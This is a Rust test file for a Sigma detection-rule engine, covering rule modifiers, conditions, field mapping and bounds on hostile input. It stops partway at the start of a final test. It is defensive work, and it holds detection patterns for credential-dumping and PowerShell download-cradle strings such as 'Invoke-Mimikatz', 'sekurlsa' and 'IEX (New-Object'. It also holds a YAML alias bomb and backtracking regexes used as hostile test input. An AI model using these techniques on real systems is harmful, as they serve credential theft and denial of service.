//! Tests of the Sigma engine: every modifier and condition form on small inline rules,
//! multi-document files, skip reasons and strict mode, hostile input, field mapping for
//! each input shape and log source inference. Tests against data are in `tests_data`.

use std::path::Path;

use serde_json::{Value, json};
use soc_core::Alert;
use soc_core::alert::Limits;

use super::*;

/// A rule set from a detection block (indented by 4), with no log source.
fn rules(detection: &str) -> RuleSet {
    let yaml = format!(
        "title: T\nid: test-rule\nlogsource:\n    product: windows\ndetection:\n{detection}\nlevel: low\n"
    );
    let (set, report) = RuleSet::from_yaml(&yaml, "inline", true)
        .unwrap_or_else(|e| panic!("rule did not load: {e}\n{yaml}"));
    assert_eq!(report.loaded, 1);
    set
}

#[allow(clippy::needless_pass_by_value)]
fn hit(set: &RuleSet, event: Value) -> bool {
    !set.matches(&Event::from_value(&event)).is_empty()
}

/// Loads a rule expecting it to be skipped; returns the reason.
fn skip_reason(yaml: &str) -> String {
    let (set, report) = RuleSet::from_yaml(yaml, "inline", false).unwrap();
    assert_eq!(set.len(), 0, "{report}");
    assert_eq!(report.skipped.len(), 1, "{report}");
    assert!(matches!(
        RuleSet::from_yaml(yaml, "inline", true),
        Err(SigmaError::Strict(_))
    ));
    report.skipped[0].reason.clone()
}

fn error_message(yaml: &str) -> String {
    let (set, report) = RuleSet::from_yaml(yaml, "inline", false).unwrap();
    assert_eq!(set.len(), 0, "{report}");
    assert_eq!(report.errors.len(), 1, "{report}");
    report.errors[0].message.clone()
}

#[test]
fn rule_set_is_send_sync() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<RuleSet>();
    assert_send_sync::<Event>();
    assert_send_sync::<AlertMatch>();
}

#[test]
fn plain_values_are_case_insensitive_equality() {
    let set = rules("    sel:\n        Image: 'C:\\Windows\\cmd.exe'\n    condition: sel");
    assert!(hit(&set, json!({"Image": "c:\\windows\\CMD.EXE"})));
    assert!(!hit(&set, json!({"Image": "c:\\windows\\cmd.exe.bak"})));
    assert!(!hit(&set, json!({"Other": "c:\\windows\\cmd.exe"})));
}

#[test]
fn wildcards_and_escapes() {
    let set = rules("    sel:\n        F: 'a*b?c'\n    condition: sel");
    assert!(hit(&set, json!({"F": "aXXXbYc"})));
    assert!(hit(&set, json!({"F": "abéc"})));
    assert!(!hit(&set, json!({"F": "abc"})));
    let set = rules("    sel:\n        F: 'x\\*y\\?z\\\\'\n    condition: sel");
    assert!(hit(&set, json!({"F": "x*y?z\\"})));
    assert!(!hit(&set, json!({"F": "xAyBz\\"})));
    // A backslash before an ordinary character stays literal.
    let set = rules("    sel:\n        F: 'C:\\Temp\\*'\n    condition: sel");
    assert!(
        hit(&set, json!({"F": "c:\\temp*"})),
        "`\\*` is an escaped star"
    );
    assert!(!hit(&set, json!({"F": "c:\\temp\\a.exe"})));
    let set = rules("    sel:\n        F: 'C:\\Temp\\\\*'\n    condition: sel");
    assert!(hit(&set, json!({"F": "c:\\temp\\a.exe"})));
    let set = rules("    sel:\n        F: '*a*b*'\n    condition: sel");
    assert!(hit(&set, json!({"F": "xxaxxbxx"})));
    assert!(!hit(&set, json!({"F": "xxbxxaxx"})));
    let set = rules("    sel:\n        F: 'ab*ba'\n    condition: sel");
    assert!(!hit(&set, json!({"F": "aba"})));
    assert!(hit(&set, json!({"F": "abba"})));
}

#[test]
fn contains_startswith_endswith_all() {
    let set = rules(
        "    sel:\n        CommandLine|contains|all:\n            - 'foo'\n            - 'bar'\n        Image|startswith: 'C:\\Win'\n        ParentImage|endswith:\n            - '\\a.exe'\n            - '\\b.exe'\n    condition: sel",
    );
    let base = json!({"CommandLine": "x BAR y foo", "Image": "c:\\windows\\x.exe", "ParentImage": "d:\\B.exe"});
    assert!(hit(&set, base.clone()));
    let mut v = base.clone();
    v["CommandLine"] = json!("foo only");
    assert!(!hit(&set, v));
    let mut v = base.clone();
    v["Image"] = json!("d:\\windows\\x.exe");
    assert!(!hit(&set, v));
    let mut v = base;
    v["ParentImage"] = json!("d:\\c.exe");
    assert!(!hit(&set, v));
}

#[test]
fn cased_matches_case_sensitively() {
    let set = rules("    sel:\n        F|contains|cased: 'AbC'\n    condition: sel");
    assert!(hit(&set, json!({"F": "xxAbCxx"})));
    assert!(!hit(&set, json!({"F": "xxabcxx"})));
}

#[test]
fn regex_with_flags() {
    let set = rules("    sel:\n        F|re: '^ab+c$'\n    condition: sel");
    assert!(hit(&set, json!({"F": "abbbc"})));
    assert!(
        !hit(&set, json!({"F": "ABBC"})),
        "re is case-sensitive by default"
    );
    let set = rules("    sel:\n        F|re|i: '^ab+c$'\n    condition: sel");
    assert!(hit(&set, json!({"F": "ABBC"})));
    let set = rules("    sel:\n        F|re|m: '^second$'\n    condition: sel");
    assert!(hit(&set, json!({"F": "first\nsecond\nthird"})));
    let set = rules("    sel:\n        F|re|s: 'a.b'\n    condition: sel");
    assert!(hit(&set, json!({"F": "a\nb"})));
    let set = rules("    sel:\n        F|re: 'a.b'\n    condition: sel");
    assert!(!hit(&set, json!({"F": "a\nb"})));
}

#[test]
fn cidr_matches_v4_and_v6() {
    let set = rules(
        "    sel:\n        DestinationIp|cidr:\n            - '10.0.0.0/8'\n            - 'fd00::/8'\n    condition: sel",
    );
    assert!(hit(&set, json!({"DestinationIp": "10.1.2.3"})));
    assert!(hit(&set, json!({"DestinationIp": "fd12::1"})));
    assert!(!hit(&set, json!({"DestinationIp": "11.1.2.3"})));
    assert!(!hit(&set, json!({"DestinationIp": "not an ip"})));
}

/// Standard base64 of `s` (test oracle, independent of the engine's encoder).
fn b64(bytes: &[u8]) -> String {
    // Reference values computed by hand for short inputs are checked below; this is a
    // straightforward bit-by-bit implementation.
    let alphabet: Vec<char> = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
        .chars()
        .collect();
    let mut bits = String::new();
    for b in bytes {
        bits.push_str(&format!("{b:08b}"));
    }
    while !bits.len().is_multiple_of(6) {
        bits.push('0');
    }
    let mut out: String = bits
        .as_bytes()
        .chunks(6)
        .map(|c| alphabet[usize::from_str_radix(std::str::from_utf8(c).unwrap(), 2).unwrap()])
        .collect();
    while !out.len().is_multiple_of(4) {
        out.push('=');
    }
    out
}

#[test]
fn base64_and_base64offset() {
    assert_eq!(b64(b"Man"), "TWFu");
    assert_eq!(modifiers::base64(b"Ma"), "TWE=");
    assert_eq!(modifiers::base64(b"hello world"), b64(b"hello world"));
    let set = rules("    sel:\n        F|base64: 'http://'\n    condition: sel");
    assert!(hit(&set, json!({"F": b64(b"http://")})));
    let set =
        rules("    sel:\n        F|base64offset|contains: 'Invoke-Mimikatz'\n    condition: sel");
    // The value at every offset inside a longer payload, with every tail length.
    for prefix in ["", "a", "ab", "abc"] {
        for suffix in ["", "x", "xy", "xyz"] {
            let payload = format!("{prefix}Invoke-Mimikatz{suffix}");
            assert!(
                hit(
                    &set,
                    json!({"F": format!("cmd {}", b64(payload.as_bytes()))})
                ),
                "offset {} tail {}",
                prefix.len(),
                suffix.len()
            );
        }
    }
    assert!(!hit(&set, json!({"F": b64(b"Invoke-Mimikatt and more")})));
}

#[test]
fn utf16_encodings_with_base64() {
    let utf16le: Vec<u8> = "IEX (New-Object"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let utf16be: Vec<u8> = "IEX (New-Object"
        .encode_utf16()
        .flat_map(u16::to_be_bytes)
        .collect();
    for (m, bytes) in [
        ("wide", &utf16le),
        ("utf16le", &utf16le),
        ("utf16be", &utf16be),
    ] {
        let set = rules(&format!(
            "    sel:\n        CommandLine|{m}|base64offset|contains: 'IEX (New-Object'\n    condition: sel"
        ));
        let mut payload = b"\x00".to_vec();
        payload.extend_from_slice(bytes);
        payload.extend_from_slice(b"\x00\x00tail");
        assert!(
            hit(
                &set,
                json!({"CommandLine": format!("powershell -enc {}", b64(&payload))})
            ),
            "{m}"
        );
        assert!(
            !hit(&set, json!({"CommandLine": b64(b"IEX (New-Object")})),
            "{m}"
        );
    }
    let set = rules("    sel:\n        F|utf16|base64: 'ab'\n    condition: sel");
    assert!(hit(
        &set,
        json!({"F": b64(&[0xFF, 0xFE, b'a', 0, b'b', 0])})
    ));
}

#[test]
fn windash_expands_dashes() {
    let set = rules(
        "    sel:\n        CommandLine|contains|windash: ' -exec bypass'\n    condition: sel",
    );
    for dash in ["-", "/", "\u{2013}", "\u{2014}", "\u{2015}"] {
        assert!(
            hit(
                &set,
                json!({"CommandLine": format!("ps {dash}exec bypass")})
            ),
            "{dash}"
        );
    }
    assert!(!hit(&set, json!({"CommandLine": "ps +exec bypass"})));
    assert_eq!(modifiers::windash("a -b -c").unwrap().len(), 25);
    assert_eq!(modifiers::windash("no-flag").unwrap().len(), 1);
    assert!(modifiers::windash("-a -b -c -d -e").is_err());
}

#[test]
fn null_and_exists() {
    let set = rules(
        "    sel:\n        A: 'x'\n    filter:\n        B: null\n    condition: sel and filter",
    );
    assert!(hit(&set, json!({"A": "x"})));
    assert!(hit(&set, json!({"A": "x", "B": null})));
    assert!(hit(&set, json!({"A": "x", "B": ""})));
    assert!(!hit(&set, json!({"A": "x", "B": "y"})));
    let set =
        rules("    sel:\n        A|exists: true\n        B|exists: false\n    condition: sel");
    assert!(hit(&set, json!({"A": 1})));
    assert!(!hit(&set, json!({"A": 1, "B": 2})));
    assert!(!hit(&set, json!({"C": 1})));
}

#[test]
fn numeric_comparisons_and_numbers() {
    let set = rules("    sel:\n        N|gt: 10\n        M|lte: 5\n    condition: sel");
    assert!(hit(&set, json!({"N": 11, "M": "5"})));
    assert!(!hit(&set, json!({"N": 10, "M": 5})));
    assert!(!hit(&set, json!({"N": 11, "M": 6})));
    let set = rules("    sel:\n        N|gte: 10\n        M|lt: 0x20\n    condition: sel");
    assert!(
        hit(&set, json!({"N": "10", "M": "0x1f"})),
        "hex event values compare"
    );
    let set = rules("    sel:\n        EventID: 4688\n        Access: 0x1010\n    condition: sel");
    assert!(hit(&set, json!({"EventID": 4688, "Access": "0x1010"})));
    assert!(hit(&set, json!({"EventID": "4688", "Access": "0X1010"})));
    assert!(!hit(&set, json!({"EventID": 46880, "Access": "0x1010"})));
    let set = rules("    sel:\n        Signed: false\n    condition: sel");
    assert!(hit(&set, json!({"Signed": "false"})));
    assert!(hit(&set, json!({"Signed": false})));
}

#[test]
fn fieldref_compares_fields() {
    let set = rules("    sel:\n        User|fieldref: TargetUser\n    condition: sel");
    assert!(hit(&set, json!({"User": "Bob", "TargetUser": "bob"})));
    assert!(!hit(&set, json!({"User": "Bob", "TargetUser": "alice"})));
    assert!(!hit(&set, json!({"User": "Bob"})));
    let set = rules("    sel:\n        CommandLine|fieldref|contains: Image\n    condition: sel");
    assert!(hit(
        &set,
        json!({"CommandLine": "run x.exe now", "Image": "X.EXE"})
    ));
}

#[test]
fn expand_without_placeholder_is_plain_with_placeholder_skipped() {
    let set = rules("    sel:\n        F|expand: 'abc'\n    condition: sel");
    assert!(hit(&set, json!({"F": "ABC"})));
    let reason = skip_reason(
        "title: T\nlogsource: {product: windows}\ndetection:\n    sel:\n        F|expand: '%allowed_hosts%'\n    condition: sel\n",
    );
    assert_eq!(reason, "placeholder `%allowed_hosts%`");
}

#[test]
fn keywords_and_keyless_all() {
    let set =
        rules("    keywords:\n        - 'mimikatz'\n        - 'sekurlsa'\n    condition: keywords");
    assert!(hit(
        &set,
        json!({"Msg": "running SEKURLSA::logonpasswords"})
    ));
    assert!(hit(&set, json!({"a": {"b": ["x", "mimikatz.exe"]}})));
    assert!(!hit(&set, json!({"Msg": "nothing"})));
    let set = rules(
        "    keywords:\n        '|all':\n            - 'failed'\n            - 'root'\n    condition: keywords",
    );
    assert!(hit(&set, json!({"a": "Failed password", "b": "for root"})));
    assert!(!hit(&set, json!({"a": "Failed password for admin"})));
    let set = rules("    keywords: 'lonely'\n    condition: keywords");
    assert!(hit(&set, json!({"a": "so LONELY"})));
}

#[test]
fn list_of_maps_is_or() {
    let set = rules(
        "    sel:\n        - Image|endswith: '\\a.exe'\n        - OriginalFileName: 'a.exe'\n    condition: sel",
    );
    assert!(hit(&set, json!({"Image": "c:\\a.exe"})));
    assert!(hit(&set, json!({"OriginalFileName": "A.EXE"})));
    assert!(!hit(&set, json!({"Image": "c:\\b.exe"})));
}

#[test]
fn conditions() {
    let det = "    sel_a:\n        A: 1\n    sel_b:\n        B: 1\n    filter_c:\n        C: 1\n    _hidden:\n        H: 1\n";
    let cases: &[(&str, &[(Value, bool)])] = &[
        (
            "sel_a and not filter_c",
            &[(json!({"A": 1}), true), (json!({"A": 1, "C": 1}), false)],
        ),
        (
            "sel_a or sel_b",
            &[(json!({"B": 1}), true), (json!({"C": 1}), false)],
        ),
        (
            "(sel_a or sel_b) and not (filter_c or _hidden)",
            &[(json!({"B": 1}), true), (json!({"B": 1, "H": 1}), false)],
        ),
        (
            "not sel_a and not sel_b",
            &[(json!({"C": 1}), true), (json!({"A": 1}), false)],
        ),
        (
            "1 of sel_*",
            &[(json!({"B": 1}), true), (json!({"C": 1}), false)],
        ),
        (
            "all of sel_*",
            &[(json!({"A": 1, "B": 1}), true), (json!({"A": 1}), false)],
        ),
        (
            "1 of them",
            &[(json!({"C": 1}), true), (json!({"H": 1}), false)],
        ),
        (
            "all of them",
            &[
                (json!({"A": 1, "B": 1, "C": 1}), true),
                (json!({"A": 1, "B": 1}), false),
            ],
        ),
        (
            "2 of them",
            &[
                (json!({"A": 1, "C": 1}), true),
                (json!({"A": 1, "H": 1}), false),
            ],
        ),
        (
            "sel_a and not 1 of filter_*",
            &[(json!({"A": 1}), true), (json!({"A": 1, "C": 1}), false)],
        ),
        (
            "sel_a or sel_b and filter_c",
            &[(json!({"A": 1}), true), (json!({"B": 1}), false)],
        ),
    ];
    for (cond, expectations) in cases {
        let set = rules(&format!("{det}    condition: {cond}"));
        for (event, want) in *expectations {
            assert_eq!(hit(&set, event.clone()), *want, "{cond} on {event}");
        }
    }
    // A list of conditions is their disjunction.
    let set = rules(&format!(
        "{det}    condition:\n        - sel_a\n        - sel_b"
    ));
    assert!(hit(&set, json!({"B": 1})));
}

#[test]
fn multi_document_global_and_plain() {
    let yaml = "\
action: global
title: Shared
logsource:
    product: windows
detection:
    common:
        Image|endswith: '\\x.exe'
    condition: common and sel
level: high
---
id: rule-1
logsource:
    category: process_creation
detection:
    sel:
        CommandLine|contains: 'one'
---
id: rule-2
detection:
    sel:
        CommandLine|contains: 'two'
";
    let (set, report) = RuleSet::from_yaml(yaml, "multi", true).unwrap();
    assert_eq!(
        report.summary_line(),
        "rules: total=2 loaded=2 skipped=0 errors=0"
    );
    let infos: Vec<_> = set.rules().collect();
    assert_eq!(infos[0].title, "Shared");
    assert_eq!(
        infos[0].logsource.category.as_deref(),
        Some("process_creation")
    );
    assert_eq!(infos[0].logsource.product.as_deref(), Some("windows"));
    assert_eq!(infos[1].level.as_deref(), Some("high"));
    let hits = set.matches(&Event::from_value(
        &json!({"Image": "c:\\x.exe", "CommandLine": "two"}),
    ));
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].rule.id, "rule-2");

    let plain = "title: A\nid: a\ndetection:\n    s:\n        F: 1\n    condition: s\n---\ntitle: B\nid: b\ndetection:\n    s:\n        F: 2\n    condition: s\n";
    let (set, _) = RuleSet::from_yaml(plain, "plain", true).unwrap();
    assert_eq!(set.len(), 2);
    let repeat = format!("{plain}---\naction: repeat\nid: c\ntitle: C\n---\naction: reset\n");
    let (set, _) = RuleSet::from_yaml(&repeat, "repeat", true).unwrap();
    assert_eq!(set.len(), 3);
    assert!(hit(&set, json!({"F": 2})));
}

#[test]
fn skip_reasons_and_strict_mode() {
    let base = |det: &str| {
        format!("title: T\nid: x\nlogsource: {{product: windows}}\ndetection:\n{det}\n")
    };
    assert_eq!(
        skip_reason(&base(
            "    sel:\n        F: 1\n    condition: sel | count() by Host > 5"
        )),
        "aggregation condition"
    );
    assert_eq!(
        skip_reason(&base("    sel:\n        F|sha256: 1\n    condition: sel")),
        "unknown modifier `sha256`"
    );
    assert_eq!(
        skip_reason("title: C\nid: c\ncorrelation:\n    type: event_count\n    rules: [x]\n"),
        "correlation rule"
    );
    assert!(
        skip_reason(&base(
            "    sel:\n        F|re: '(?<=a)b'\n    condition: sel"
        ))
        .starts_with("regex not supported")
    );
    assert!(
        error_message(&base(
            "    sel:\n        F: 1\n    condition: sel and other"
        ))
        .contains("unknown selection `other`")
    );
    assert!(error_message(&base("    sel:\n        F: 1")).contains("missing `condition`"));
    assert!(
        error_message(&base("    sel:\n        F: 1\n    condition: (sel")).contains("parentheses")
    );
    assert!(error_message("title: [unclosed\n").starts_with("YAML syntax"));
    assert!(error_message("title: x\nlogsource: {}\n").contains("missing `detection`"));
    // Documents that are not rules (a regression `info.yml`) are not counted.
    let (_, report) = RuleSet::from_yaml("id: x\nrule_metadata: []\n", "info.yml", true).unwrap();
    assert_eq!(report.total, 0);
    let err = RuleSet::from_yaml(
        &base("    sel:\n        F|sha256: 1\n    condition: sel"),
        "o",
        true,
    )
    .unwrap_err();
    assert!(err.to_string().contains("skipped=1"), "{err}");
    // Reasons are grouped with counts.
    let two = format!(
        "{}---\n{}",
        base("    sel:\n        F|x1: 1\n    condition: sel"),
        base("    sel:\n        F|x1: 2\n    condition: sel")
    );
    let (_, report) = RuleSet::from_yaml(&two, "o", false).unwrap();
    assert_eq!(
        report.skip_reasons(),
        vec![("unknown modifier `x1`".to_owned(), 2)]
    );
    assert!(
        report
            .to_string()
            .contains("skipped: unknown modifier `x1` (2)")
    );
}

#[test]
fn hostile_regexes_are_bounded() {
    // Catastrophic backtracking patterns run in linear time in Rust's engine.
    let set = rules("    sel:\n        F|re: '^(a+)+$'\n    condition: sel");
    let long = format!("{}b", "a".repeat(100_000));
    assert!(!hit(&set, json!({"F": long})));
    let set = rules("    sel:\n        F|re: '(x+x+)+y'\n    condition: sel");
    assert!(!hit(&set, json!({"F": "x".repeat(50_000)})));
    // Huge programs fail to compile and the rule is skipped.
    let reason = skip_reason(
        "title: T\nlogsource: {product: windows}\ndetection:\n    sel:\n        F|re: '(?:\\w{1000}){1000}'\n    condition: sel\n",
    );
    assert!(reason.contains("size limit"), "{reason}");
    let alternation = (0..20_000)
        .map(|i| format!("w{i}x"))
        .collect::<Vec<_>>()
        .join("|");
    let reason = skip_reason(&format!(
        "title: T\nlogsource: {{product: windows}}\ndetection:\n    sel:\n        F|re: '({alternation})'\n    condition: sel\n"
    ));
    assert!(reason.contains("regex"), "{reason}");
}

#[test]
fn hostile_yaml_and_conditions_are_bounded() {
    // Alias expansion bomb.
    let mut bomb = String::from("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for i in 1..8 {
        let p = i - 1;
        bomb.push_str(&format!(
            "a{i}: &a{i} [*a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}]\n"
        ));
    }
    bomb.push_str("title: bomb\ndetection:\n    sel:\n        F: *a7\n    condition: sel\n");
    assert!(error_message(&bomb).contains("nodes"));
    // Deep nesting.
    let deep = format!(
        "title: deep\ndetection: {}{}\n",
        "[".repeat(200),
        "]".repeat(200)
    );
    let (_, report) = RuleSet::from_yaml(&deep, "deep", false).unwrap();
    assert_eq!(report.errors.len(), 1);
    let deep_block: String = (0..2000)
        .map(|i| format!("{}- \n", " ".repeat(i)))
        .collect();
    let (_, report) = RuleSet::from_yaml(&deep_block, "deep", false).unwrap();
    assert_eq!(report.errors.len(), 1, "{report}");
    // Deep condition nesting.
    let cond = format!("{}sel{}", "(".repeat(500), ")".repeat(500));
    let msg = error_message(&format!(
        "title: T\ndetection:\n    sel:\n        F: 1\n    condition: '{cond}'\n"
    ));
    assert!(msg.contains("nests deeper"), "{msg}");
    let nots = format!("{}sel", "not ".repeat(500));
    assert!(
        error_message(&format!(
            "title: T\ndetection:\n    sel:\n        F: 1\n    condition: {nots}\n"
        ))
        .contains("nests deeper")
    );
    // Long glob patterns stay bounded (O(value × pattern)).
    let set = rules(&format!(
        "    sel:\n        F: '{}b'\n    condition: sel",
        "*a".repeat(200)
    ));
    assert!(!hit(&set, json!({"F": "a".repeat(20_000)})));
}

#[test]
fn match_explains_fields() {
    let set = rules(
        "    sel:\n        Image|endswith: '\\x.exe'\n        CommandLine|contains: 'evil'\n    filter:\n        User: 'admin'\n    condition: sel and not filter",
    );
    let ev =
        Event::from_value(&json!({"Image": "C:\\x.exe", "CommandLine": "run EVIL", "User": "bob"}));
    let hits = set.matches(&ev);
    assert_eq!(
        hits[0].fields,
        vec![
            ("Image".to_owned(), "C:\\x.exe".to_owned()),
            ("CommandLine".to_owned(), "run EVIL".to_owned())
        ]
    );
    let set = rules("    keywords:\n        - 'evil'\n    condition: keywords");
    let hits = set.matches(&ev);
    assert_eq!(
        hits[0].fields,
        vec![("CommandLine".to_owned(), "run EVIL".to_owned())]
    );
}

#[test]
fn extend_merges_sets_and_field_ids() {
    let mut a = rules("    sel:\n        A: 1\n    condition: sel");
    let (b, _) = RuleSet::from_yaml(
        "title: B\nid: b\ndetection:\n    sel:\n        Z: 1\n        B|fieldref: A\n    condition: sel\n",
        "b",
        true,
    )
    .unwrap();
    a.extend(b);
    assert_eq!(a.len(), 2);
    let hits = a.matches(&Event::from_value(&json!({"A": 1, "Z": 1, "B": 1})));
    assert_eq!(hits.len(), 2);
}

#[test]
fn evtx_json_mapping() {
    let v = json!({"Event": {
        "#attributes": {"xmlns": "x"},
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon", "Guid": "G"}},
            "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "pc1",
            "Execution": {"#attributes": {"ProcessID": 1, "ThreadID": 2}},
            "Security": {"#attributes": {"UserID": "S-1-5-18"}}
        },
        "EventData": {"Image": "C:\\a.exe", "CommandLine": "a -x", "Hashes": "MD5=1"}
    }});
    let ev = Event::from_value(&v);
    assert_eq!(ev.get("Image"), Some("C:\\a.exe"));
    assert_eq!(ev.get("EventID"), Some("1"));
    assert_eq!(ev.get("Provider_Name"), Some("Microsoft-Windows-Sysmon"));
    assert_eq!(ev.get("Computer"), Some("pc1"));
    assert_eq!(ev.get("UserID"), Some("S-1-5-18"));
    assert_eq!(ev.get("ExecutionProcessID"), Some("1"));
    assert_eq!(ev.logsource().category.as_deref(), Some("process_creation"));
    let user_data = json!({"Event": {
        "System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-WMI-Activity"}}, "EventID": 5858,
                   "Channel": "Microsoft-Windows-WMI-Activity/Operational"},
        "UserData": {"Operation_ClientFailure": {"#attributes": {"xmlns": "x"}, "Operation": "op", "ResultCode": "0x1"}}
    }});
    let ev = Event::from_value(&user_data);
    assert_eq!(ev.get("Operation"), Some("op"));
    assert_eq!(ev.logsource().service.as_deref(), Some("wmi"));
    let data_list = json!({"System": {"EventID": {"#attributes": {"Qualifiers": 0}, "#text": 4688}, "Channel": "Security"},
        "EventData": {"Data": [{"#attributes": {"Name": "NewProcessName"}, "#text": "C:\\b.exe"}]}});
    let ev = Event::from_value(&data_list);
    assert_eq!(ev.get("EventID"), Some("4688"));
    assert_eq!(
        ev.get("Image"),
        Some("C:\\b.exe"),
        "4688 NewProcessName answers to Image"
    );
    assert_eq!(ev.logsource().category.as_deref(), Some("process_creation"));
    assert_eq!(ev.logsource().service.as_deref(), Some("security"));
}

fn alert(v: Value) -> Alert {
    Alert::from_value(v, soc_core::alert::Format::Auto, &Limits::default()).unwrap()
}

#[test]
fn dev_set_flat_and_event_lists() {
    let a = alert(json!({
        "alert_id": "A1", "source": "edr", "severity": "high", "title": "t",
        "timestamp": "2026-01-01T00:00:00Z",
        "raw_log": {"log_source": "windows_eventlog", "provider": "Microsoft-Windows-Sysmon",
            "channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 1, "computer": "pc",
            "event_data": {"Image": "C:\\x.exe", "ParentImage": "C:\\p.exe"}}
    }));
    let evs = Event::from_alert(&a);
    assert_eq!(evs.len(), 1);
    assert_eq!(evs[0].get("Image"), Some("C:\\x.exe"));
    assert_eq!(evs[0].get("EventID"), Some("1"));
    assert_eq!(
        evs[0].get("Provider_Name"),
        Some("Microsoft-Windows-Sysmon")
    );
    assert!(evs[0].logsource_is_exact());
    let a = alert(json!({
        "alert_id": "A2", "source": "siem", "severity": "high", "title": "t",
        "timestamp": "2026-01-01T00:00:00Z",
        "raw_log": {"log_source": "windows_eventlog", "host": "srv1", "events": [
            {"provider": "Service Control Manager", "channel": "System", "event_id": 7045,
             "event_data": {"ServiceName": "a", "ImagePath": "cmd.exe"}},
            {"provider": "Service Control Manager", "channel": "System", "event_id": 7045,
             "event_data": {"ServiceName": "b", "ImagePath": "x.exe"}}
        ]}
    }));
    let evs = Event::from_alert(&a);
    assert_eq!(evs.len(), 2);
    assert_eq!(evs[1].get("ServiceName"), Some("b"));
    assert_eq!(evs[1].get("log_source"), Some("windows_eventlog"));
    assert_eq!(evs[1].get("Computer"), Some("srv1"));
    assert_eq!(evs[0].logsource().service.as_deref(), Some("system"));
    let m = RuleSet::embedded().match_alert(&a);
    assert_eq!(m.len(), 1, "deduplicated by rule id: {m:?}");
    assert!(
        m[0].fields
            .contains(&("ImagePath".into(), "cmd.exe".into())),
        "{m:?}"
    );
}

#[test]
fn flattened_user_data_fields_answer_to_their_own_names() {
    // The flattened form of an EVTX `UserData` event: `event_data`'s only child (besides
    // its XML attributes) is the wrapper element, without `#text`. One field of the same
    // name is also given directly, outside `event_data`.
    let a = alert(json!({
        "alert_id": "A4", "source": "siem", "severity": "medium", "title": "t",
        "timestamp": "2026-01-01T00:00:00Z",
        "raw_log": {"provider": "Example-Provider", "channel": "Example/Operational", "event_id": 4242,
            "computer": "host-a", "SubjectUserName": "direct-user", "event_data": {
                "#attributes": {"Name": "ContainerAttribute"},
                "WrapperElement": {"#attributes": {"xmlns": "urn:example"},
                    "SubjectUserName": "wrapped-user", "SubjectDomainName": "EXAMPLEDOM",
                    "Detail": {"Code": "0x2a"}, "Items": ["first", "second"],
                    "Named": {"#text": "plain"}}}}
    }));
    let ev = &Event::from_alert(&a)[0];
    // A rule on the bare name matches the wrapped field.
    let bare = rules("    sel:\n        SubjectDomainName: 'exampledom'\n    condition: sel");
    assert_eq!(bare.matches(ev).len(), 1);
    assert_eq!(bare.match_alert(&a).len(), 1);
    assert_eq!(ev.get("Detail.Code"), Some("0x2a"));
    assert_eq!(ev.get("Named"), Some("plain"));
    let items = rules("    sel:\n        Items: 'second'\n    condition: sel");
    assert_eq!(items.matches(ev).len(), 1, "every element of a list");
    // The direct field keeps its name to itself; the wrapped one stays reachable dotted.
    let direct = |v: &str| {
        rules(&format!(
            "    sel:\n        SubjectUserName: '{v}'\n    condition: sel"
        ))
    };
    assert_eq!(direct("direct-user").matches(ev).len(), 1);
    assert!(direct("wrapped-user").matches(ev).is_empty());
    assert_eq!(ev.get("SubjectUserName"), Some("direct-user"));
    assert_eq!(
        ev.get("WrapperElement.SubjectUserName"),
        Some("wrapped-user")
    );
    assert_eq!(
        ev.get("WrapperElement.SubjectDomainName"),
        Some("EXAMPLEDOM")
    );
    // XML attributes are not fields of their own.
    assert_eq!(ev.get("WrapperElement.#attributes.xmlns"), None);
    assert_eq!(ev.get("xmlns"), None);
    assert_eq!(ev.get("Name"), None);
    // The same event as EVTX-JSON gives the same bare names.
    let evtx = Event::from_value(&json!({"Event": {
        "System": {"Provider": {"#attributes": {"Name": "Example-Provider"}}, "EventID": 4242},
        "UserData": {"WrapperElement": {"#attributes": {"xmlns": "urn:example"},
            "SubjectUserName": "wrapped-user", "SubjectDomainName": "EXAMPLEDOM"}}
    }}));
    assert_eq!(bare.matches(&evtx).len(), 1);
    // Winlogbeat's and Wazuh's event-data containers unwrap the same way.
    for shape in [
        json!({"winlog": {"event_data": {"WrapperElement": {"SubjectDomainName": "EXAMPLEDOM"}}}}),
        json!({"data": {"win": {"eventdata": {"wrapperElement": {"SubjectDomainName": "EXAMPLEDOM"}}}}}),
    ] {
        assert_eq!(bare.matches(&Event::from_value(&shape)).len(), 1, "{shape}");
    }
}

#[test]
fn event_data_objects_beside_others_are_not_unwrapped() {
    // Two sibling objects are two processes, not one wrapped element: neither answers to
    // the bare `Image`, so an image rule cannot fire on the other process's image.
    let wmic = rules("    sel:\n        Image|endswith: '\\wmic.exe'\n    condition: sel");
    let siblings = json!({"event_data": {
        "Process": {"Image": "C:\\a.exe"},
        "Parent": {"Image": "C:\\Windows\\System32\\wbem\\WMIC.exe"}}});
    let ev = Event::from_value(&siblings);
    assert_eq!(ev.get("Image"), None);
    assert_eq!(ev.get("Process.Image"), Some("C:\\a.exe"));
    assert_eq!(
        ev.get("Parent.Image"),
        Some("C:\\Windows\\System32\\wbem\\WMIC.exe")
    );
    assert!(wmic.matches(&ev).is_empty());
    // Nor is an object beside plain fields, nor an element with `#text`.
    for shape in [
        json!({"event_data": {"ProcessId": 4, "Parent": {"Image": "C:\\wbem\\WMIC.exe"}}}),
        json!({"event_data": {"Parent": {"Image": "C:\\wbem\\WMIC.exe", "#text": "t"}}}),
    ] {
        let ev = Event::from_value(&shape);
        assert_eq!(ev.get("Image"), None, "{shape}");
        assert!(wmic.matches(&ev).is_empty(), "{shape}");
    }
    // Two containers each wrapping an element: the bare name comes from the first
    // wrapper only, never a merge of both.
    let two = Event::from_value(&json!({
        "event_data": {"First": {"Image": "C:\\a.exe"}},
        "winlog": {"event_data": {"Second": {"Image": "C:\\Windows\\System32\\wbem\\WMIC.exe"}}}}));
    assert_eq!(two.get("Image"), Some("C:\\a.exe"));
    assert_eq!(two.lower_values("image").count(), 1);
    assert!(wmic.matches(&two).is_empty());
}

#[test]
fn hostile_wrapped_elements_are_bounded() {
